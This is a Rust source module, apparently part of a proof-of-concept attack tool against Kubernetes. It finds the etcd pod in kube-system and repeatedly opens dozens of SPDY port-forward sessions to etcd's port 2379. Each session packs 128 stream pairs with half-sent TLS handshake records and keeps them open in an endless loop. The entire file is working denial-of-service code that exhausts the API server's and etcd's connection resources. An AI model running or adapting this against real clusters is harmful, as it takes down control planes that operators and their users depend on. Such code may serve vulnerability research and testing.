//! Port-forwards as client-go opens them, and as many connections inside of each as are given.

use bytes::{BufMut as _, BytesMut};
use flate2::{Compress, Compression, FlushCompress};
use hyper_util::rt::TokioIo;
use serde_json::Value;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    task::JoinSet,
    time::{Duration, sleep},
};

use super::wire::{Payload, Server};

/// Port-forwards of the attack: more than there are places.
const SESSIONS: usize = 80;
/// Connections in each: as many as a session has streams for.
const PAIRS: u32 = 128;
/// The port of etcd, behind which is TLS.
const PORT: &str = "2379";
/// The beginning of a record of a handshake that claims the greatest length of records.
const RECORD: [u8; 5] = [22, 3, 1, 0x3f, 0xff];

/// The path of a port-forward to a pod of the control plane.
pub(super) async fn path(server: &Server) -> String {
    let pods = "/api/v1/namespaces/kube-system/pods";
    let mut name = String::new();
    if let Ok(mut connection) = server.connect(true, None).await
        && let Ok((_, list)) = connection
            .exchange(server.request("GET", pods, "application/json", Payload::of("")))
            .await
        && let Ok(list) = serde_json::from_slice::<Value>(&list)
    {
        let items = list["items"].as_array().cloned().unwrap_or_default();
        let mut names = items.iter().filter_map(|pod| pod["metadata"]["name"].as_str());
        name = names
            .find(|name| name.starts_with("etcd-"))
            .unwrap_or_default()
            .to_owned();
    }
    format!("{pods}/{name}/portforward")
}

/// The request that opens a port-forward.
pub(super) fn upgrade(server: &Server, path: &str) -> http::Request<Payload> {
    let mut request = server.request("POST", path, "application/json", Payload::of(""));
    for (header, value) in [
        ("connection", "Upgrade"),
        ("upgrade", "SPDY/3.1"),
        ("x-stream-protocol-version", "portforward.k8s.io"),
    ] {
        request
            .headers_mut()
            .insert(header, value.parse().expect("a header"));
    }
    request
}

/// Opens port-forwards, and in each as many connections as there are streams for, in which half a handshake is sent.
pub(super) async fn pairs(server: Server) {
    let path = path(&server).await;
    loop {
        let mut sessions = JoinSet::new();
        for _ in 0..SESSIONS {
            let server = server.clone();
            let path = path.clone();
            sessions.spawn(async move {
                let Ok(mut connection) = server.connect(false, None).await else {
                    return;
                };
                let Ok(response) = connection.send(upgrade(&server, &path)).await else {
                    return;
                };
                let Ok(upgraded) = hyper::upgrade::on(response).await else {
                    return;
                };
                // Whoever sends without reading is not read any more.
                let (mut read, mut write) = tokio::io::split(TokioIo::new(upgraded));
                let reading = async {
                    let mut buffer = vec![0; 16 * 1024];
                    while read.read(&mut buffer).await.is_ok_and(|bytes| bytes > 0) {}
                };
                let writing = async {
                    let _ = write.write_all(&opening()).await;
                    std::future::pending::<()>().await;
                };
                tokio::select! {
                    () = reading => {}
                    () = writing => {}
                }
            });
        }
        let _ = tokio::time::timeout(Duration::from_secs(4), async {
            while sessions.join_next().await.is_some() {}
        })
        .await;
        sleep(Duration::from_millis(10)).await;
    }
}

/// The frames that open all pairs of a session and send something in each.
fn opening() -> BytesMut {
    let mut compress = Compress::new(Compression::fast(), true);
    let mut out = BytesMut::new();
    for pair in 0..PAIRS {
        let error = pair * 4 + 1;
        for (id, kind) in [(error, "error"), (error + 2, "data")] {
            open(
                &mut out,
                &mut compress,
                id,
                &[
                    ("streamtype", kind),
                    ("port", PORT),
                    ("requestid", &pair.to_string()),
                ],
            );
        }
        data(&mut out, error, true, &[]);
        data(&mut out, error + 2, false, &RECORD);
    }
    out
}

/// SYN_STREAM. The header block is compressed without the dictionary, which zlib leaves to the sender.
fn open(out: &mut BytesMut, compress: &mut Compress, id: u32, headers: &[(&str, &str)]) {
    let length = |bytes: usize| u32::try_from(bytes).expect("some bytes");
    let mut plain = Vec::new();
    plain.put_u32(length(headers.len()));
    for text in headers.iter().flat_map(|(name, value)| [name, value]) {
        plain.put_u32(length(text.len()));
        plain.put_slice(text.as_bytes());
    }
    let mut block = Vec::with_capacity(1024);
    compress
        .compress_vec(&plain, &mut block, FlushCompress::Sync)
        .expect("there is room");
    out.put_u32(0x8003_0001);
    out.put_u32(10 + length(block.len()));
    out.put_u32(id);
    out.put_slice(&[0; 6]);
    out.put_slice(&block);
}

fn data(out: &mut BytesMut, id: u32, fin: bool, bytes: &[u8]) {
    out.put_u32(id);
    out.put_u32(u32::from(fin) << 24 | u32::try_from(bytes.len()).expect("some bytes"));
    out.put_slice(bytes);
}
